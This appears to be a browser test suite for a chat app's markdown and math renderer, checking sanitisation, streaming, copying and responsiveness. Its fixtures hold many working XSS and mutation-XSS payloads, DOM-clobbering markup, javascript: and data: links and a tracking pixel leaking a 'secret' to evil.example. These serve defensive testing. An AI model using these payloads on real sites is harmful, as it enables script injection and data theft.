"""Renders answers of models: markdown as it streams, and hostile markup."""

import re

import pytest
from playwright.sync_api import expect

from tests.browser.chat_page import ChatPage
from tests.browser.page_tasks import page_tasks
from tests.browser.written_chat import write_chat

HOSTILE = """\
<script>window.hacked = 1</script>

Inline <img src=x onerror="window.hacked=2"> and <svg onload="window.hacked=3"></svg>.

[a](javascript:window.hacked=4) [b](data:text/html,<script>window.hacked=5</script>) \
[c](vbscript:x) <javascript:alert(1)> [d](JaVaScRiPt&colon;alert(1)) [e](//evil.example/x)

![leak](https://evil.example/pixel.png?secret) ![d](data:image/svg+xml;base64,PHN2Zy8+)

<style>body{display:none}</style> <iframe src="https://evil.example"></iframe>
<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content=0>

<a href="https://evil.example" onclick="window.hacked=6" style="position:fixed">x</a>
<form action="https://evil.example"><input name=q></form>

| a <b onmouseover=alert(1)>b</b> | b<br>c |
| --- | --- |
| <img src=https://evil.example/x.png> | `<script>` |

```html"><img src=x onerror=window.hacked=7>
<script>window.hacked=8</script>
</code></pre><img src=x onerror="window.hacked=9">
```

[ref]: javascript:window.hacked=10
[see ref][ref] <http://ok.example/"onmouseover="window.hacked=11>

<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=12>

```
never closed <b>
"""
ALLOWED_TAGS = re.compile(
    "a|b|blockquote|br|button|code|del|div|em|h[1-6]|hr|i|input|ins|kbd|li|mark|ol|p|path|pre|s|small"
    "|section|span|strong|sub|sup|svg|table|tbody|td|th|thead|tr|u|ul|wbr"
)
ALLOWED_ATTRIBUTES = re.compile(
    "align|aria-hidden|aria-label|aria-pressed|checked|class|d|data-(code|jump|language|note)|dir|disabled"
    "|href|rel|role|start|tabindex|target|title|type|viewBox"
)

MARKDOWN = """\
# A title

Words with *emphasis*, **weight**, `code`, ~~mistakes~~ and a [link][1].

1. one
2. two

   still two
3. three

- [x] done
- [ ] open

```python
def f():

    return "```"
```

| a | b |
| :- | -: |
| 1 | 2 |

> quoted
> twice

Last.

[1]: https://example.org/
"""


@pytest.fixture
def echo(echo_stack, new_context):
    return ChatPage(new_context().new_page(), echo_stack.url).visit()


def nodes_of(page):
    """Name, attributes and `href` of all that was made of a text; the root is the page's own."""
    expect(page.locator(".md-new")).to_have_count(0)  # The last words have faded in.
    return page.evaluate(
        """() => [...document.querySelectorAll(".md *")].map((node) =>
             [node.localName, node.getAttributeNames(), node.getAttribute("href")])"""
    )


def test_hostile_output_renders_harmlessly(echo, shot):
    answer = echo.ask("SAY " + HOSTILE)
    expect(answer).to_contain_text("never closed <b>")
    for name, attributes, href in nodes_of(echo.page):
        assert ALLOWED_TAGS.fullmatch(name)
        assert all(map(ALLOWED_ATTRIBUTES.fullmatch, attributes))
        assert href is None or href.startswith(("https://", "http://"))
    assert echo.page.evaluate("window.hacked") is None
    for link in answer.locator(".md a").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
    expect(answer.get_by_text("Image: leak")).to_be_visible()
    shot(echo.page, "hostile")


def test_a_hostile_title_and_question_are_text(echo):
    text = "<img src=x onerror=window.hacked=1> **no markdown**"
    echo.ask(text)
    expect(echo.questions.locator(".bubble")).to_have_text(text)
    echo.chats.first.press("F2")
    rename = echo.page.get_by_role("textbox", name="Title of the chat")
    rename.fill(text)
    rename.press("Enter")
    expect(echo.chats.first).to_contain_text(text)
    echo.page.reload()
    expect(echo.chats.first).to_contain_text(text)
    assert echo.page.evaluate("window.hacked") is None


def test_what_has_grown_is_what_is_read_later(echo, shot):
    echo.ask("SAY " + MARKDOWN)
    coloured = echo.answers.last.locator(".hljs-keyword")
    expect(coloured).to_have_count(2)
    grown = echo.answers.last.locator(".md").inner_html()
    echo.page.reload()
    expect(echo.answers.last.locator(".md h1")).to_have_text("A title")
    expect(coloured).to_have_count(2)
    assert echo.answers.last.locator(".md").inner_html() == grown
    shot(echo.page, "markdown")


FLOODS = {
    "one long line": "*200000 word ",
    "quotes": "*5000 > ",
    "lists": "*5000 - ",
    "brackets": "*50000 [",
    "links": "*20000 [a](",
    "paragraphs": "*9000 x\n\n",
    "fences": "*9000 \n```\nx",
}


# A calculation whose CPU time says how fast this machine is.
# It tells of its end in another task, because the tasks in which Playwright looks are left out.
CALCULATION = """new Promise((done) => setTimeout(() => {
  let sum = 0;
  for (let number = 0; number < 1e8; number++) sum += number % 7;
  setTimeout(() => done(sum));
}))"""
# The longest task while a flood comes takes at most as much as this many calculations.
MOST_CALCULATIONS = 5


def test_a_flood_leaves_the_page_responsive(echo):
    """The page does nothing in one task that would make somebody wait who types."""
    with page_tasks(echo.page) as calculations:
        echo.page.evaluate(CALCULATION)
    for name, order in FLOODS.items():
        with page_tasks(echo.page) as tasks:
            echo.ask("SAY" + order)
            echo.field.fill("still here")
            echo.page.evaluate(
                "new Promise((done) => requestAnimationFrame(() => setTimeout(done)))"
            )
        assert tasks[0] < MOST_CALCULATIONS * calculations[0], name
        assert echo.page.evaluate("document.documentElement.scrollWidth <= innerWidth"), name
        echo.page.get_by_role("link", name="New chat").click()
        expect(echo.answers).to_have_count(0)


# Markup that a parser changes after a sanitiser has checked it, and names that would shadow
# properties of the document.
MUTATING = """\
<svg><style><img src=x onerror=window.hacked=1></style></svg>
<math><annotation-xml encoding="text/html"><svg onload=window.hacked=2></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=window.hacked=3>"></noscript>
<form id=x><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.hacked=4>
<a id=config name=config><img name=cookie><form id=app><input name=attributes></form>
<svg></p><style><a id="</style><img src=x onerror=window.hacked=5>">
<b>bold</b><img src=x:x onerror=window.hacked=6//<sub>below</sub>

<b id=documentElement name=querySelector onclick=window.hacked=7>name</b> <mark style=x>x</mark>

[a](javascript&#58;window.hacked=8) [b](<java\tscript:window.hacked=9>) [c](\x01javascript:x) \
[d](data:text/html;base64,PHNjcmlwdD4=) [e](https://ok.example/"><img src=x>) [f](blob:x) \
[g](file:///etc/passwd) [h](javascript://ok.example/%0aalert(1)) <data:text/html,x>

[i]: <javascript:alert(1)> "t"
[j][i] ![k](javascript:alert(1)) ![l][i] https://ok.example/<img/src=x>

\u202etxt.exe\u202c end \x1b[31mred\x1b[0m \x1b]8;;https://ok.example\x07link\x1b]8;;\x07

The end.
"""


def test_markup_that_mends_itself_stays_harmless(echo):
    answer = echo.ask("SAY " + MUTATING)
    expect(answer.locator(".md")).to_contain_text("The end.")
    for name, attributes, href in nodes_of(echo.page):
        assert ALLOWED_TAGS.fullmatch(name)
        assert all(map(ALLOWED_ATTRIBUTES.fullmatch, attributes))
        assert href is None or href.startswith(("https://ok.example", "http://ok.example"))
    assert echo.page.evaluate("window.hacked") is None
    assert echo.page.evaluate("typeof document.cookie + document.documentElement.localName") == (
        "stringhtml"
    )
    echo.page.reload()
    expect(echo.answers.last.locator(".md")).to_contain_text("The end.")
    assert echo.page.evaluate("window.hacked") is None


def test_what_highlights_slowly_is_left_plain_and_the_page_goes_on(echo):
    """Grammars are regular expressions, which some texts keep busy for minutes."""
    echo.ask("SAY*20000 ```xml\n¶<a b=")
    echo.ask("SAY*40000 ```python\n¶f(")
    echo.ask("SAY ```python\nreturn 1\n```\n")
    keyword = echo.answers.last.locator(".hljs-keyword", has_text="return")
    expect(keyword).to_have_count(1, timeout=60_000)
    echo.field.fill("still here")
    expect(echo.field).to_have_value("still here")


def test_a_table_of_100_000_rows_leaves_the_page_usable(alice, stack):
    rows = "".join(f"| a | {number} |\n" for number in range(100_000))
    write_chat(alice, stack, [("Rows, please.", "| h | i |\n| - | - |\n" + rows)])
    answer = alice.answers.last
    expect(answer.get_by_role("cell", name="999", exact=True)).to_have_count(1, timeout=60_000)
    alice.field.fill("still here")
    expect(alice.field).to_have_value("still here")
    alice.page.evaluate("document.querySelector('.scroller').scrollTop = 0")
    expect(answer.locator(".answer-model")).to_be_in_viewport()
    assert alice.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_what_a_search_shows_is_text(echo):
    echo.ask(
        "SAY Findable <img src=x onerror=window.hacked=1> <mark>own</mark> **words** &lt;b&gt;"
    )
    echo.page.keyboard.press("Control+k")
    search = echo.page.get_by_role("combobox", name="Search your chats, or find a command")
    search.fill("findable")
    found = echo.page.get_by_role("option").filter(has_text="indable <img").first
    expect(found).to_be_visible(timeout=30_000)
    assert found.locator("img, b, strong").count() == 0
    assert echo.page.evaluate("window.hacked") is None


def test_code_is_copied_as_it_was_written(echo):
    echo.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer = echo.ask("SAY ```js\nif (a < b) {\n  c();\n}\n```\n")
    expect(answer.locator(".code-language")).to_have_text("JavaScript")
    answer.get_by_role("button", name="Copy code").click()
    expect(answer.locator("[data-code=copy]")).to_have_attribute("data-said", "Copied")
    assert echo.page.evaluate("navigator.clipboard.readText()") == "if (a < b) {\n  c();\n}"


HOSTILE_MATH = r"""
$\href{javascript:window.hacked=1}{x}$ and $\includegraphics{https://evil.example/x.png}$

$$
\htmlStyle{position:fixed}{x} \htmlData{a=b}{y} \url{javascript:1}
$$

\(\def\x{\x\x}\x\) $\rule{99999em}{99999em}$ $<img src=x onerror=window.hacked=2>$ \
$\fcolorbox{red}{blue}{a} \pmb{b} \overbrace{c+d}^{e} \left(\frac{\frac12}{\frac{1}{2}}\right)$
"""


def test_hostile_math_can_do_nothing(echo):
    answer = echo.ask("SAY " + HOSTILE_MATH)
    expect(answer.locator(".katex .mfrac").first).to_be_visible()
    for name, attributes, href in nodes_of(echo.page):
        assert name not in ("img", "script", "iframe", "form")
        assert href is None
        assert not any(attribute.startswith("on") for attribute in attributes)
    assert echo.page.evaluate("window.hacked") is None
    assert echo.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_code_is_coloured_beside_the_page_and_stays_what_it_is(echo):
    code = 'def f(x):\n    return "<img src=x onerror=window.hacked=1>"\n' * 60
    answer = echo.ask(f"SAY ```python\n{code}```\n")
    expect(answer.locator(".hljs-keyword").last).to_have_text("return")
    assert answer.locator("code").evaluate("(node) => node.textContent") == code
    assert echo.page.evaluate("window.hacked") is None
    echo.page.reload()
    expect(echo.answers.last.locator(".code-folded")).to_be_visible()
    echo.is_live()
    echo.answers.last.get_by_role("button", name="Show all 120 lines").click()
    expect(echo.answers.last.locator(".code-folded")).to_have_count(0)
    wrap = echo.answers.last.get_by_role("button", name="Wrap long lines")
    wrap.click()
    expect(wrap).to_have_attribute("aria-pressed", "true")
    with echo.page.expect_download() as download:
        echo.answers.last.get_by_role("button", name="Download code").click()
    assert download.value.suggested_filename == "code.py"


def test_math_tables_and_footnotes(echo, shot):
    answer = echo.ask(
        "SAY Costs $5 and $10, but $a^2$.[^n]\n\n"
        "| a | b |\n| :- | -: |\n| 1 | 2 |\n\n[^n]: A *note*.\n"
    )
    expect(answer.locator(".katex")).to_have_count(1)
    expect(answer.locator("td").last).to_have_css("text-align", "right")
    answer.get_by_role("button", name="Footnote 1").click()
    back = answer.get_by_role("button", name="Back to the text")
    expect(back).to_be_focused()
    back.click()
    expect(answer.get_by_role("button", name="Footnote 1")).to_be_focused()
    shot(echo.page, "math")


LONG_BLOCKS = (
    "*400 a [b](https://x.example) sentence. ",
    "*700 - item\n",
    "*600 | h | i |\n| - | - |\n¶| a | b |\n",
)


def test_a_long_block_that_has_grown_is_what_is_read_later(echo):
    for order in LONG_BLOCKS:
        echo.ask("SAY" + order)
        words = "() => document.querySelector('.message-answer:last-of-type .md').textContent"
        grown = echo.page.evaluate(words)
        echo.page.reload()
        expect(echo.answers.last.locator(".md")).to_contain_text(grown[-20:].strip())
        echo.page.wait_for_function(f"(grown) => ({words})() === grown", arg=grown)
        echo.page.get_by_role("link", name="New chat").click()
        expect(echo.answers).to_have_count(0)


LANGUAGES = """\
彼は**「行く」**と言った。~~「旧」~~新。总共6~8人，用~5分钟，最多~10分钟。

First line,
second line,
third line.

$$
u = v

w = z
$$

- Below an item: \\(u_1 * u_2\\)
- \\[ v \\]

\\begin{align}
\\label{eq:one}
u &= v \\\\
  &= w
\\end{align}

| a | b |
| - | - |
| $|u|$ | $5 |

见https://example.org/a。或www.example.org吧。
"""


def test_an_answer_in_other_languages_and_with_formulas(echo, shot):
    answer = echo.ask("SAY " + LANGUAGES)
    expect(answer.locator(".math-drawn")).to_have_count(5)
    expect(answer.locator("strong")).to_have_text("「行く」")
    expect(answer.locator("del")).to_have_text("「旧」")
    poem = answer.locator("p", has_text="First line")
    assert poem.inner_text().split("\n") == ["First line,", "second line,", "third line."]
    expect(answer.locator(".math-display")).to_have_count(3)
    expect(answer.locator(".katex-error, .math-wrong")).to_have_count(0)
    links = [link.get_attribute("href") for link in answer.locator(".md a").all()]
    assert links == ["https://example.org/a", "http://www.example.org"]
    assert echo.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    grown = answer.locator(".md").inner_html()
    shot(echo.page, "languages")
    echo.page.reload()
    expect(echo.answers.last.locator(".math-drawn")).to_have_count(5)
    assert echo.answers.last.locator(".md").inner_html() == grown


def test_what_is_copied_of_an_answer_is_what_was_written(echo):
    echo.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer = echo.ask("SAY " + LANGUAGES)
    answer.get_by_role("button", name="Copy the answer").click()
    assert echo.page.evaluate("navigator.clipboard.readText()").strip() == LANGUAGES.strip()


CLIPBOARD = """async () => {
    const [item] = await navigator.clipboard.read({ unsanitized: ["text/html"] });
    const texts = item.types.map(async (type) => [type, await (await item.getType(type)).text()]);
    return Object.fromEntries(await Promise.all(texts));
}"""
RICH = """\
## Steps

- **one** and [a link](https://example.org/a)
- [x] done

| a | b |
|---|---|
| 1 | $x^2$ |

```python
if a < b:
    print("<b>")
```

<img src=x onerror=alert(1)> text[^n]

[^n]: A note.
"""


def test_an_answer_is_copied_as_formatted_text_too(echo):
    """Without classes, buttons and scripts, the code as code and the formulas as their source."""
    page = echo.page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer = echo.ask("SAY " + RICH)
    button = answer.get_by_role("button", name="Copy the answer")
    for copy, outcome in (
        (lambda: button.click(), "[data-said=Copied]"),
        (lambda: page.keyboard.press("Control+Shift+C"), ".toast"),
    ):
        page.evaluate("navigator.clipboard.writeText('nothing')")
        copy()
        expect(page.locator(outcome)).to_be_visible()
        copied = page.evaluate(CLIPBOARD)
        assert copied["text/plain"].strip() == RICH.strip()
        html = copied["text/html"]
        assert "<h2>Steps</h2>" in html and "<strong>one</strong>" in html
        assert '<a href="https://example.org/a">a link</a>' in html
        assert '<pre><code>if a &lt; b:\n    print("&lt;b&gt;")' in html
        assert "<td>1</td><td>$x^2$</td>" in html and "[Done]" in html
        assert "<sup>1</sup>" in html and "1. " in html
        assert not re.search(r"<(?:button|input|img|svg)|class=|style=|data-", html)


def test_a_very_long_answer_is_copied_as_markdown_only(echo):
    echo.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer = echo.ask("SAY*300 " + 80 * "ten chars " + "\n\n")
    answer.get_by_role("button", name="Copy the answer").click()
    expect(echo.page.locator("[data-said=Copied]")).to_be_visible()
    assert list(echo.page.evaluate(CLIPBOARD)) == ["text/plain"]


def test_reading_above_is_not_disturbed_by_what_grows(echo, new_context):
    echo.ask("SAY*120 A paragraph to read.\n\n")
    echo.send("SAY*4000 more words\n\n")
    echo.writing()
    scroller = echo.page.locator(".scroller")
    scroller.hover()
    echo.page.mouse.wheel(0, -2_000)
    jump = echo.page.get_by_role("button", name=re.compile("Jump to the latest"))
    expect(jump).to_be_visible()
    echo.page.wait_for_timeout(200)
    before = scroller.evaluate("(node) => node.scrollTop")
    echo.ended()
    assert abs(scroller.evaluate("(node) => node.scrollTop") - before) < 60
    jump.click()
    expect(jump).to_have_count(0)


# Notes, in each frame, the text of the answer and the places of the characters that are fading.
WATCH_FADING = """(answer) => {
  window.frames_ = [];
  const look = () => {
    const root = answer.querySelector(".md");
    if (root) {
      let at = 0;
      const fading = [];
      const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
      while (walker.nextNode()) {
        const text = walker.currentNode;
        const span = text.parentElement.closest(".md-new");
        const animation = span?.getAnimations()[0];
        if (animation?.playState === "running")
          fading.push([at, at + text.length, animation.effect.getComputedTiming().progress]);
        at += text.length;
      }
      frames_.push({ text: root.textContent, fading });
    }
    if (answer.getAttribute("aria-busy") !== "false") requestAnimationFrame(look);
  };
  look();
}"""


def faded(alice):
    """Follows an answer; returns the frames."""
    alice.send("[[rate=30&tokens=90]] Fade")
    alice.answers.last.evaluate(WATCH_FADING)
    alice.ended()
    return alice.page.evaluate("frames_")


def test_new_words_fade_in_once_where_they_are(alice):
    frames = faded(alice)
    assert sum(bool(frame["fading"]) for frame in frames) > 10
    reached = {}
    for frame in frames:
        for begin, end, share in frame["fading"]:
            for place in range(begin, end):
                if frame["text"][place].isspace():  # A line's end gives way to the next word.
                    continue
                # One that began again would be seen to flicker; a frame may be late.
                assert share >= reached.get(place, 0) - 0.4, (place, frame["text"])
                reached[place] = share
    assert len(reached) > 0.3 * len(frames[-1]["text"])
    assert alice.page.locator(".md-new").count() == 0
    assert frames[-1]["text"].startswith(frames[len(frames) // 2]["text"].rstrip())


def test_nothing_fades_for_who_wants_little_motion(alice):
    alice.page.emulate_media(reduced_motion="reduce")
    alice.page.reload()
    assert not any(frame["fading"] for frame in faded(alice))
